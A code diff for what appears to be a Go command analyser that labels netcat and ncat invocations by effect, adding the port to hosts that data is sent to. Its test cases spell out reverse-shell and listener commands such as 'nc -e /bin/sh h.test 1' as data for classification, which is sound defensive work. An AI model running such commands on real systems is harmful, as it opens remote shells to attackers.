@@ -35,22 +35,23 @@ var nc = Program{
 var ncCases = []Case{
 	{`nc -p 1 -zv h.test 80`, `Query h.test`},
 	{`nc -zv h.test 80`, `Query h.test`},
-	{`nc -w 3 h.test 80`, `Send h.test`},
+	{`nc -w 3 h.test 80`, `Send h.test:80`},
 	{`nc -z localhost 5432`, `Query localhost`},
 	{`nc -lk 9000`, `Expose a port; Send whoever connects`},
-	{`nc -e /bin/sh h.test 1`, `Send h.test; Expose{tunnel} a program of this machine; Run[line] /bin/sh`},
+	{`nc -e /bin/sh h.test 1`, `Send h.test:1; Expose{tunnel} a program of this machine; Run[line] /bin/sh`},
 	{`ncat --sh-exec 'cat' -l 1`, `Expose{tunnel} a program of this machine; Run[line] cat; Expose a port; Send whoever connects`},
 	{`ncat --broker -l 1`, `Expose{tunnel} a relay; Expose a port; Send whoever connects`},
-	{`ncat --proxy p.test --ssl-cert c h.test 1`, `Send h.test; Send p.test; Read c`},
-	{`nc h.test 1 sh`, `Send h.test; Expose{tunnel} a program of this machine; Run[words] sh`},
+	{`ncat --proxy p.test --ssl-cert c h.test 1`, `Send h.test:1; Send p.test; Read c`},
+	{`nc h.test 1 sh`, `Send h.test:1; Expose{tunnel} a program of this machine; Run[words] sh`},
 	{`nc -l 1 sh`, `Expose a port; Send whoever connects; Expose{tunnel} a program of this machine; Run[words] sh`},
 	{`nc -z h.test 20-30 http`, `Query h.test`},
-	{`nc -x p h.test 1`, `Send h.test; Unknown is a file that it writes, or a proxy`},
+	{`nc -x p h.test 1`, `Send h.test:1; Unknown is a file that it writes, or a proxy`},
 }
 
 // ncCommand: toybox takes a command behind the host and the port, where others take
 // more ports.
 func ncCommand(m *Match) {
+	withPort(m)
 	for i := range m.Args {
 		w := &m.Args[i]
 		if i < 1 || i < 2 && !m.Has("-l") || m.Has("-z") || strings.Trim(w.Text, "0123456789-") == "" {
@@ -60,6 +61,23 @@ func ncCommand(m *Match) {
 		m.addRole(RunsWords, w, "")
 		m.Facts[len(m.Facts)-1].Words = m.Args[i:]
 		return
+	}
+}
+
+// withPort puts the port behind the host that something is sent to: at some of them more
+// than a service listens.
+func withPort(m *Match) {
+	if len(m.Args) < 2 || !m.Args[0].Exact() || !m.Args[1].Exact() || strings.Trim(m.Args[1].Text, "0123456789") != "" {
+		return
+	}
+	for i := range m.Facts {
+		f := &m.Facts[i]
+		if host := f.Word.Text; f.Role == Sends && host == m.Args[0].Text && f.Word.Exact() {
+			if strings.Contains(host, ":") {
+				host = "[" + host + "]"
+			}
+			f.Word.Text = host + ":" + m.Args[1].Text
+		}
 	}
 }
 
